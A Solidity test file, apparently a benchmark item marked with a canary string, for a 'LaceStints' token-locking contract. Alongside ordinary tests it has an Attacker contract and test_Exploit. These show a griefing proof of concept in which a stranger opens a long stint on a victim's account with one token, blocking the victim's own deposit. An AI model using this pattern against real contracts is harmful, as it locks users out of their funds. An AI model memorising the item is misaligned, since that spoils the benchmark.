// SPDX-License-Identifier: MIT
pragma solidity 0.5.17;

// assay-canary-bb1e1689-bf05-4daf-affa-c3c94e54a849

import "./LaceStints.sol";

interface Vm {
    function prank(address who) external;
    function warp(uint256 timestamp) external;
    function expectRevert(bytes calldata reason) external;
}

contract Bobbins is IERC20 {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        require(amount < 2**128);
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        _move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        require(allowance[from][msg.sender] >= amount, "allowance");
        allowance[from][msg.sender] -= amount;
        _move(from, to, amount);
        return true;
    }

    function _move(address from, address to, uint256 amount) private {
        require(balanceOf[from] >= amount, "balance");
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
    }
}

contract Member {
    address private self;
    LaceStints private stints;

    constructor(LaceStints stints_) public {
        self = msg.sender;
        stints = stints_;
        Bobbins(address(stints_.bobbins())).approve(address(stints_), uint256(-1));
    }

    modifier own() {
        require(msg.sender == self, "not yours");
        _;
    }

    function setAside(uint256 amount, uint256 length) external own {
        stints.setAside(amount, length);
    }

    function setAsideFor(address member, uint256 amount, uint256 length) external own {
        stints.setAsideFor(member, amount, length);
    }

    function prolong(uint256 length) external own {
        stints.prolong(length);
    }

    function prolongFor(address member, uint256 length) external own {
        stints.prolongFor(member, length);
    }

    function setSponsor(address sponsor) external own {
        stints.setSponsor(sponsor);
    }

    function end() external own {
        stints.end();
    }
}

/// Has one bobbin.
contract Attacker {
    function run(LaceStints stints, address member) external {
        Bobbins(address(stints.bobbins())).approve(address(stints), 1e18);
        stints.setAsideFor(member, 1e18, 208);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1760800000;

    Bobbins public bobbins;
    LaceStints public stints;
    Member public vera;
    Member public workshop;
    Attacker public prank;

    function setUp() public {
        vm.warp(START);
        bobbins = new Bobbins();
        stints = new LaceStints(bobbins);
        bobbins.mint(address(this), 10000e18);
        bobbins.approve(address(stints), uint256(-1));
        stints.addReserve(10000e18);
        vera = new Member(stints);
        workshop = new Member(stints);
        prank = new Attacker();
        bobbins.mint(address(vera), 5000e18);
        bobbins.mint(address(workshop), 5000e18);
        bobbins.mint(address(prank), 1e18);
    }

    // Vera sets her savings aside for the winter.
    function beginWinterStint() external {
        vera.setAside(5000e18, 20);
    }

    function test_Regular() public {
        vera.setSponsor(address(workshop));
        vera.setAside(1000e18, 20);
        (uint256 amount, uint256 bonus, uint64 length, uint64 endsAt) = stints.stints(address(vera));
        require(amount == 1000e18 && bonus == 20e18, "bonus of twenty weeks");
        require(length == 20 && endsAt == START + 20 weeks, "stint");

        // Half-way the workshop pays wages into it.
        vm.warp(START + 10 weeks);
        workshop.setAsideFor(address(vera), 1000e18, 20);
        (amount, bonus, , ) = stints.stints(address(vera));
        require(amount == 2000e18 && bonus == 30e18 && stints.promised() == 30e18, "ten weeks more");
        require(!_ok(abi.encodeWithSelector(vera.setAside.selector, 100e18, uint256(30))), "other length");
        require(!_ok(abi.encodeWithSelector(vera.setAside.selector, 1e17, uint256(20))), "too little");
        require(!_ok(abi.encodeWithSelector(vera.prolong.selector, uint256(19))), "shortened");
        require(!_ok(abi.encodeWithSelector(vera.end.selector)), "running");

        workshop.prolongFor(address(vera), 60);
        (, bonus, length, endsAt) = stints.stints(address(vera));
        require(bonus == 110e18 && length == 60 && endsAt == START + 60 weeks, "prolonged");
        vera.setSponsor(address(0));
        (bool done, ) = address(workshop).call(
            abi.encodeWithSelector(workshop.prolongFor.selector, address(vera), uint256(70))
        );
        require(!done, "no sponsor any more");

        vm.warp(START + 60 weeks);
        require(!_ok(abi.encodeWithSelector(vera.setAside.selector, 100e18, uint256(60))), "time is up");
        vera.end();
        require(bobbins.balanceOf(address(vera)) == 6110e18 && stints.reserve() == 9890e18, "all is back");

        // A new stint, of any length.
        vera.setAside(6110e18, 52);
        vm.prank(address(vera));
        stints.prolong(104);
        require(stints.promised() == 762528e15, "a fifth more");
        stints.setOpen(false);
        require(!_ok(abi.encodeWithSelector(vera.setAside.selector, 1e18, uint256(104))), "closed");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Reserve and doors are the guild's.
    function test_RefusesStrangers() public {
        refuses(address(vera), "LaceStints: guild only");
        stints.addReserve(1);
        refuses(address(vera), "LaceStints: guild only");
        stints.setOpen(false);
        refuses(address(vera), "LaceStints: member");
        stints.setAsideFor(address(0), 1e18, 20);
        refuses(address(vera), "LaceStints: none");
        stints.end();
        stints.setOpen(false);
        refuses(address(vera), "LaceStints: closed");
        stints.setAside(1e18, 20);
        refuses(address(vera), "LaceStints: closed");
        stints.setAsideFor(address(vera), 1e18, 20);
    }

    /// Lengths that are none, stints that are over.
    function test_RefusesLengths() public {
        refuses(address(vera), "LaceStints: length");
        stints.setAside(1e18, 3);
        refuses(address(vera), "LaceStints: none");
        stints.prolong(20);
        vera.setAside(1e18, 20);
        refuses(address(vera), "LaceStints: length");
        stints.prolong(20);
        refuses(address(vera), "LaceStints: length");
        stints.prolong(209);
        vm.warp(START + 20 weeks);
        refuses(address(vera), "LaceStints: none");
        stints.prolong(21);
    }

    /// Bobbins that say no are believed.
    function test_RefusesFailedTransfers() public {
        vera.setAside(1e18, 20);
        bobbins.sleep(true);
        vm.expectRevert("LaceStints: transfer");
        stints.addReserve(1);
        refuses(address(workshop), "LaceStints: transfer");
        stints.setAside(1e18, 20);
        vm.warp(START + 20 weeks);
        refuses(address(vera), "LaceStints: transfer");
        stints.end();
    }

    function exploit() public {
        prank.run(stints, address(vera));
    }

    function test_Exploit() public {
        exploit();
        (bool done, ) = address(this).call(abi.encodeWithSelector(this.beginWinterStint.selector));
        require(!done, "began the stint");
    }

    function target() public view returns (address) {
        return address(stints);
    }

    function attacker() public view returns (address) {
        return address(prank);
    }

    function _ok(bytes memory data) private returns (bool done) {
        (done, ) = address(vera).call(data);
    }
}
